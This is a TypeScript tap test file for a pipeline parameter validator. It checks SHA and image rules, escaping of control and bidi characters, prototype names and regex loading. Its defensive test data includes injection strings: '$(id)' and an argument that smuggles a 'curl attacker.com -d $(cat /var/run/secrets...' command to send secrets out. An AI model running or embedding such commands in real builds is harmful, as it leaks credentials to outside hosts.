import { spawnSync } from 'node:child_process';
import t from 'tap';
import { compileRuleSet } from '../../src/params/compile.ts';
import { validateParams, validatedSetDigest } from '../../src/params/validate.ts';
import type { RuleSet } from '../../src/params/rules.ts';
import { SEED_ATTACK } from './attack-strings.ts';

const sha = '3f786850e387550fdab836ed7e6dc881de23001b';
const rules: RuleSet = {
  'git-revision': { type: 'git-sha' },
  'image-tag': { type: 'image-tag' },
  replicas: { type: 'integer', min: 1, max: 10 },
  notes: { type: 'text', maxLength: 100, optional: true },
  images: { type: 'image-reference', requireDigest: true },
};

t.test('a fully valid set passes', async (t) => {
  const result = validateParams(
    { 'git-revision': sha, 'image-tag': 'v1', replicas: '3', images: [`a@sha256:${'a'.repeat(64)}`, `b@sha256:${'b'.repeat(64)}`] },
    await compileRuleSet(rules),
  );
  t.same(result, { ok: true, failures: [] });
});

t.test('every failure is reported at once, each array element on its own', async (t) => {
  const result = validateParams(
    new Map<string, string | string[]>([
      ['git-revision', SEED_ATTACK],
      ['image-tag', 'v1'],
      ['images', ['ok@sha256:' + 'a'.repeat(64), 'alpine:latest', '$(id)']],
      ['unexpected', 'x'],
      ['bad\u202ename', 'y'],
    ]),
    await compileRuleSet(rules),
  );
  t.notOk(result.ok);
  t.same(
    result.failures.map((f) => [f.param, f.rule, f.index]),
    [
      ['git-revision', 'git-sha', undefined],
      ['images', 'image-reference', 1],
      ['images', 'image-reference', 2],
      ['unexpected', '(no rule)', undefined],
      ['"bad\\u202ename"', '(no rule)', undefined],
      ['replicas', 'integer', undefined],
    ],
  );
  const seed = result.failures[0]!;
  t.match(seed.reason, /characters long/);
  t.notOk(seed.shownValue.includes(SEED_ATTACK), 'the attack is not shown whole');
  t.match(seed.shownValue, /^"--build-arg FOO=bar; curl attacker\.com -d \$\(cat \/var\/run\/secrets"… \(100 chars\)$/);
  t.match(result.failures[5]!.reason, /^is missing: pass it in the "values" param \("replicas=\$\(params\.replicas\)"\)/);
});

t.test('shown values are escaped: no control, bidi or non-ASCII character survives', async (t) => {
  const values = ['\u202egnp.exe', 'a\u0000b', 'x\r\ny', '\u001b[31mred', 'zero\u200bwidth', '\ud800', 'é'];
  const result = validateParams({ 'image-tag': values }, await compileRuleSet({ 'image-tag': { type: 'image-tag' } }));
  t.equal(result.failures.length, values.length);
  for (const failure of result.failures) t.match(failure.shownValue, /^[\x20-\x7e]*$/, failure.shownValue);
});

t.test('names such as "constructor" and "toString" are plain params, not object internals', async (t) => {
  const rules: RuleSet = Object.fromEntries([['toString', { type: 'bool' as const }]]);
  const result = validateParams({ constructor: 'x', toString: 'true' }, await compileRuleSet(rules));
  t.same(result.failures.map((f) => f.param), ['constructor']);
});

t.test('an empty array fails unless the rule is optional', async (t) => {
  t.notOk(validateParams({ images: [] }, await compileRuleSet({ images: { type: 'image-tag' } })).ok);
  t.ok(validateParams({ images: [] }, await compileRuleSet({ images: { type: 'image-tag', optional: true } })).ok);
});

t.test('the regex engine is loaded only for rule sets that hold a regex rule', async (t) => {
  // A child process logs every import of "re2js" through a module hook, then compiles one rule set.
  const compileUrl = new URL('../../src/params/compile.ts', import.meta.url).href;
  const hook = `import { registerHooks } from 'node:module';
registerHooks({ resolve(specifier, context, next) { if (specifier === 're2js') process.stdout.write('re2js loaded\\n'); return next(specifier, context); } });`;
  const run = (rules: RuleSet) => {
    const script = `${hook}\nconst { compileRuleSet } = await import(${JSON.stringify(compileUrl)});\nawait compileRuleSet(${JSON.stringify(rules)});\nprocess.stdout.write('compiled\\n');`;
    return spawnSync(process.execPath, ['--input-type=module', '-e', script], { encoding: 'utf8', timeout: 60_000 });
  };
  const without = run(rules);
  t.equal(without.stdout, 'compiled\n', `no regex rule, no re2js: ${without.stderr}`);
  const withRegex = run({ ...rules, arg: { type: 'regex', pattern: '[a-z]+', maxLength: 8 } });
  t.equal(withRegex.stdout, 're2js loaded\ncompiled\n', `a regex rule loads re2js: ${withRegex.stderr}`);
  const compiled = await compileRuleSet({ arg: { type: 'regex', pattern: '[a-z]+', maxLength: 8 } });
  t.ok(validateParams({ arg: 'abc' }, compiled).ok);
  t.notOk(validateParams({ arg: 'abc1' }, compiled).ok);
});

t.test('the validated-set digest depends on names and values, not on order', async (t) => {
  const a = validatedSetDigest({ x: '1', y: ['2', '3'] });
  t.match(a, /^sha256:[0-9a-f]{64}$/);
  t.equal(validatedSetDigest(new Map<string, string | string[]>([['y', ['2', '3']], ['x', '1']])), a);
  t.not(validatedSetDigest({ x: '1', y: ['3', '2'] }), a);
  t.not(validatedSetDigest({ x: '1', y: '2,3' }), a);
});
